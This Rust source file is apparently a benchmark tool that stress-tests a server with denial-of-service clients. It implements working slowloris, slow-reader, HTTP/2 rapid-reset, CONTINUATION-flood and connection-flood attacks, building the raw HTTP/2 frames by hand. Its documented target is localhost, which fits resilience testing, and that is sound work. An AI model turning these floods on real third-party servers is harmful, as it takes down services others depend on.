//! Clients that mean harm, each kind bounded in what it does.
//!
//! `bench-hostile --mode slowloris --to 127.0.0.1:8080 --clients 5000`: goes on until its input
//! closes, then prints what it did as one JSON object. A client whose connection ends opens another.
//!
//! - `slowloris`: a head that never ends, a few bytes a second
//! - `slow-readers`: asks for 1 MB and reads some bytes a second
//! - `rapid-reset`: HTTP/2 requests that are taken back at once, 1000 a connection
//! - `continuation`: an HTTP/2 head in CONTINUATION frames without end
//! - `connects`: connections that are closed at once; `--clients` is how many a second

use std::cell::Cell;
use std::io::{Write as _, stdout};
use std::net::SocketAddr;
use std::rc::Rc;
use std::time::Duration;

use anyhow::{Result, bail};
use portunus_bench_tools::args::Args;
use portunus_bench_tools::pace::Pace;
use portunus_bench_tools::{block_on, now, orders};
use socket2::SockRef;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::spawn_local;
use tokio::time::{sleep, timeout};

fn main() -> Result<()> {
    let args = Args::from_env()?;
    let attack = Rc::new(Attack {
        kind: Kind::named(&args.required::<String>("mode")?)?,
        address: args.required("to")?,
        opened: Cell::new(0),
        refused: Cell::new(0),
        ended: Cell::new(0),
    });
    block_on(run(attack, args.required("clients")?))
}

struct Attack {
    kind: Kind,
    address: SocketAddr,
    opened: Cell<u64>,
    refused: Cell<u64>,
    /// Connections that the server ended.
    ended: Cell<u64>,
}

#[derive(Clone, Copy)]
enum Kind {
    Slowloris,
    SlowReaders,
    RapidReset,
    Continuation,
    Connects,
}

impl Kind {
    fn named(name: &str) -> Result<Self> {
        Ok(match name {
            "slowloris" => Self::Slowloris,
            "slow-readers" => Self::SlowReaders,
            "rapid-reset" => Self::RapidReset,
            "continuation" => Self::Continuation,
            "connects" => Self::Connects,
            _ => bail!("there is no attack {name}"),
        })
    }
}

async fn run(attack: Rc<Attack>, clients: u64) -> Result<()> {
    let began = now();
    match attack.kind {
        Kind::Connects => {
            spawn_local(connect_at_rate(Rc::clone(&attack), clients));
        }
        _ => {
            for number in 0..clients {
                spawn_local(attack_again(Rc::clone(&attack), number));
            }
        }
    }
    let mut orders = orders::receive();
    while orders.recv().await.is_some() {}
    writeln!(
        stdout(),
        r#"{{"opened":{},"refused":{},"ended":{},"seconds":{:.1}}}"#,
        attack.opened.get(),
        attack.refused.get(),
        attack.ended.get(),
        began.elapsed().as_secs_f64(),
    )?;
    Ok(())
}

/// One client, again and again. They begin one after the other, a thousand in a second.
async fn attack_again(attack: Rc<Attack>, number: u64) {
    sleep(Duration::from_millis(number)).await;
    loop {
        match timeout(PATIENCE, open(&attack)).await {
            Ok(Ok(stream)) => {
                attack.opened.set(attack.opened.get() + 1);
                let _ = strike(attack.kind, stream).await;
                attack.ended.set(attack.ended.get() + 1);
            }
            _ => attack.refused.set(attack.refused.get() + 1),
        }
        sleep(BEFORE_NEXT).await;
    }
}

async fn open(attack: &Attack) -> Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if matches!(attack.kind, Kind::SlowReaders) {
        // As on a real network; on the loopback interface, segments of 64 KB give each connection
        // megabytes in the kernel, and the attack would be one of bandwidth.
        socket.set_recv_buffer_size(4096)?;
        SockRef::from(&socket).set_tcp_mss(SEGMENT_BYTES)?;
    }
    Ok(socket.connect(attack.address).await?)
}

/// What a client does with its connection until that ends.
async fn strike(kind: Kind, mut stream: TcpStream) -> Result<()> {
    match kind {
        Kind::Slowloris => drip(stream).await,
        Kind::SlowReaders => sip(stream).await,
        Kind::RapidReset => {
            stream.write_all(PREFACE).await?;
            flood(stream, 1000, |frames, number| {
                let stream = 2 * number + 1;
                frame(frames, HEADERS, END_STREAM | END_HEADERS, stream, GET);
                frame(frames, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            })
            .await
        }
        Kind::Continuation => {
            stream.write_all(PREFACE).await?;
            flood(stream, 10_000, |frames, number| match number {
                0 => frame(frames, HEADERS, 0, 1, GET),
                _ => frame(frames, CONTINUATION, 0, 1, LITERAL),
            })
            .await
        }
        Kind::Connects => Ok(()),
    }
}

async fn drip(mut stream: TcpStream) -> Result<()> {
    stream.write_all(b"GET / HTTP/1.1\r\nHost: bench.test\r\n").await?;
    loop {
        stream.write_all(b"x: y\r\n").await?;
        if let Ok(read) = timeout(Duration::from_secs(1), stream.read(&mut [0; 512])).await
            && read? == 0
        {
            return Ok(());
        }
    }
}

async fn sip(mut stream: TcpStream) -> Result<()> {
    stream.write_all(b"GET /big HTTP/1.1\r\nHost: bench.test\r\n\r\n").await?;
    while stream.read(&mut [0; 64]).await? > 0 {
        sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}

/// Sends frames by the hundred, then waits until the server has had enough.
async fn flood(stream: TcpStream, count: u32, frames_of: impl Fn(&mut Vec<u8>, u32)) -> Result<()> {
    let (mut from, mut to) = stream.into_split();
    let read = spawn_local(async move {
        let mut buffer = vec![0; 4096];
        while from.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
    });
    let mut frames = Vec::new();
    for number in 0..count {
        frames_of(&mut frames, number);
        if number % 100 == 99 {
            to.write_all(&frames).await?;
            frames.clear();
        }
    }
    timeout(PATIENCE, read).await??;
    Ok(())
}

/// Appends an HTTP/2 frame (RFC 9113 section 4.1).
fn frame(to: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or_default();
    to.extend(length.to_be_bytes().iter().skip(1));
    to.extend([kind, flags]);
    to.extend(stream.to_be_bytes());
    to.extend(payload);
}

async fn connect_at_rate(attack: Rc<Attack>, rate: u64) {
    let pace = Rc::new(Pace::default());
    for _ in 0..CONNECTING {
        let (attack, pace) = (Rc::clone(&attack), Rc::clone(&pace));
        spawn_local(async move {
            while pace.next().await.is_some() {
                match timeout(PATIENCE, TcpStream::connect(attack.address)).await {
                    Ok(Ok(stream)) => {
                        attack.opened.set(attack.opened.get() + 1);
                        // Ends with a reset: no port is left in TIME_WAIT, of which there are too few.
                        let _ = SockRef::from(&stream).set_linger(Some(Duration::ZERO));
                    }
                    _ => attack.refused.set(attack.refused.get() + 1),
                }
            }
        });
    }
    let _ = pace.run(now(), rate, u64::MAX).await;
}

const SEGMENT_BYTES: u32 = 1460;
const PATIENCE: Duration = Duration::from_secs(2);
const BEFORE_NEXT: Duration = Duration::from_millis(100);
const CONNECTING: usize = 64;

/// The client's preface and an empty SETTINGS frame (RFC 9113 section 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
/// `GET /` of `bench.test` over `http`, in HPACK.
const GET: &[u8] = b"\x82\x84\x86\x41\x0abench.test";
/// The header `x: yyyy...`, not to be indexed.
const LITERAL: &[u8] = b"\x00\x01x\x20yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy";
